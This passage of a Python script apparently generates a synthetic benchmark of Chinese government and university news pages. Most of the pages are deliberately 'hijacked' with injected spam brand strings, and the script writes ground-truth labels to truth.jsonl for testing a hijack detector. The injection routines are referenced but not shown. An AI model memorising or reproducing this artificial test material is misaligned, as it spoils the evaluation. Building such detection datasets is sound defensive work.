<div class="ArticleContent">
{body}
</div>
<div class="ArticleTools">[<a href="#">发表评论</a>] [<a href="#">告诉好友</a>] [<a href="#">打印此文</a>] [<a href="#">关闭窗口</a>]</div>
</div>
{s.get('body_end', '')}
<div id="footer">{E(c['site'])} 版权所有</div>
{s.get('foot', '')}
</body></html>
"""

def u6_ssr_state(c, s):
    """U6: server-rendered single-page-app detail page: headline in <h2 class="detail-title">, meta chips,
    body in <div class="rich-text">, and the same metadata repeated in window.__INITIAL_STATE__ JSON."""
    ps = paras(c, s)
    body = "".join("<p>%s</p>\n" % E(p) for p in ps)
    src = s.get("byline_src", c["source"] or "")
    state = json.dumps({"detail": {"id": R.randint(100000, 999999), "title": c["title"], "publishDate": c["date"],
                                   "source": src, "author": c["author"] or ""}}, ensure_ascii=False).replace("</", "<\\/")
    return f"""<!DOCTYPE html>
<html lang="zh"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>{E(s.get('title', c['title']))}</title>
{s.get('head', '')}
<link rel="stylesheet" href="/assets/app.3f9c1.css"></head>
<body>
{s.get('top', '')}
<div id="app" data-server-rendered="true"><div class="layout"><div class="hd"><a href="/" class="brand">{E(c['site'])}</a></div>
<div class="bread"><a href="/">{E(s.get('crumb_root', '首页'))}</a> <i>/</i> <a href="/news">新闻中心</a> <i>/</i> <span>详情</span></div>
<div class="detail"><h2 class="detail-title">{E(s.get('h1_pre', ''))}{E(c['title'])}</h2>
<div class="detail-meta"><span class="chip">发布时间:{c['date']}</span><span class="chip">来源:{E(src)}</span>{'<span class="chip">作者:' + E(c['author']) + '</span>' if c['author'] else ''}</div>
<div class="rich-text">
{body}</div></div></div></div>
<script>window.__INITIAL_STATE__={state}</script>
<script src="/assets/app.3f9c1.js" defer></script>
{s.get('body_end', '')}
<div class="ft">© {E(c['site'])}</div>
{s.get('foot', '')}
</body></html>
"""

TEMPLATES = [("U1", u1_gb_table, "gov"), ("U2", u2_uni_fields_end, "edu"), ("U3", u3_mobile, "gov"),
             ("U4", u4_xxgk_ul, "gov"), ("U5", u5_article_sys, "gov"), ("U6", u6_ssr_state, "edu")]

# ------------------------------------------------------------------ plan
def org_for(kind):
    if kind == "gov":
        return R.choice(GOV)
    return R.choice(UNI)

def make(out):
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    plan = ["hijacked"] * 28 + ["clean"] * 8 + ["legit"] * 4
    R.shuffle(plan)
    inj_cycle = INJ[:] + INJ[:]           # 36 >= 28: every form used at least once
    R.shuffle(inj_cycle)
    # make sure all 18 forms appear within the first 28
    first = INJ[:]
    R.shuffle(first)
    rest = inj_cycle[:28 - len(first)]
    inj_seq = first + rest
    R.shuffle(inj_seq)
    shapes = ["latin", "cjk", "mix", "emoji", "trad"]
    rows = []
    hi = 0
    for i, what in enumerate(plan):
        tname, tfun, tkind = TEMPLATES[i % len(TEMPLATES)]
        d = ymd()
        if what == "legit":
            org = R.choice(SPORT_LOTTERY) if R.random() < 0.5 else R.choice(GOV[:4])
            art = LEGIT_ARTS[sum(1 for r in rows if r["legit"]) % len(LEGIT_ARTS)]
            site = org
            title, ps = art(org, d)
        else:
            if tkind == "edu":
                uni = R.choice(UNI)
                org = R.choice(COLLEGE) if R.random() < 0.6 else uni
                site = uni
                art = R.choice([a_recruit, a_volunteer, a_project, a_lecture, a_drill])
            else:
                org = R.choice(GOV)
                site = org
                art = R.choice([a_river, a_drill, a_medins, a_flood, a_sortwaste])
            title, ps = art(org, d)
        c = {"title": title, "paras": ps, "date": d, "site": site,
             "source": org if R.random() < 0.8 else None,
             "author": (pname() + (" " + pname() if R.random() < 0.3 else "")) if R.random() < 0.6 else None}
        slots, spam, kinds = {}, [], []
        if what == "hijacked":
            inj = inj_seq[hi]
            hi += 1
            shape = shapes[hi % len(shapes)]
            if tname == "U1" and shape == "emoji":
                shape = "cjk"                      # GBK page: no emoji
            if inj is i_h1_emoji:
                b = R.choice(EMOJI) + R.choice(CJK_NAMES) + R.choice(CJK_SUF) if tname != "U1" else brand("trad")[0]
                shape = "emoji" if tname != "U1" else "trad"
            else:
                b, shape = brand(shape)
            slots, spam, kinds = inj(b, c)
            # a second, different form on about a third of the hijacked pages
            if R.random() < 0.35:
                inj2 = R.choice([x for x in INJ if x is not inj and x is not i_body_sentence and x is not i_h1_emoji])
                s2, sp2, k2 = inj2(b, c)
                for k, v in s2.items():
                    if k in slots and isinstance(v, str) and k in ("head", "foot", "body_end", "top"):
                        slots[k] = slots[k] + "\n" + v
                    elif k not in slots:
                        slots[k] = v
                    else:
                        continue
                    for x in sp2:
                        if x not in spam:
                            spam.append(x)
                    kinds += [x for x in k2 if x not in kinds]
            c["brand_shape"] = shape
        page = tfun(c, slots)
        enc = "gbk" if tname == "U1" else "utf-8"
        cid = "syn3-%03d" % (i + 1)
        data = page.encode(enc)
        # truth: only strings that are literally in the page count as spam strings
        spam = [x for x in spam if x in page]
        text = "\n".join(c["paras"])
        assert not any(x in text for x in spam), cid
        if what != "hijacked":
            assert not slots
        with open(os.path.join(out, "html", cid + ".html"), "wb") as f:
            f.write(data)
        rows.append({"id": cid, "url": None, "encoding": enc, "lang": "zh", "title": c["title"], "date": c["date"],
                     "source": c["source"], "author": c["author"], "text": text, "hijacked": what == "hijacked",
                     "injections": kinds, "spam_strings": spam, "legit": what == "legit",
                     "origin": "synthetic-generator-v3 (make_set.py, seed %d)" % SEED, "kind": "synthetic-" + tname,
                     "site": c["site"], "template": tname, "brand_shape": c.get("brand_shape")})
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    return rows

if __name__ == "__main__":
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "synthetic-v3")
    rows = make(out)
    from collections import Counter
    print(len(rows), "hijacked", sum(r["hijacked"] for r in rows), "legit", sum(r["legit"] for r in rows),
          "templates", dict(Counter(r["template"] for r in rows)))
    print("injection kinds", dict(Counter(k for r in rows for k in r["injections"])))
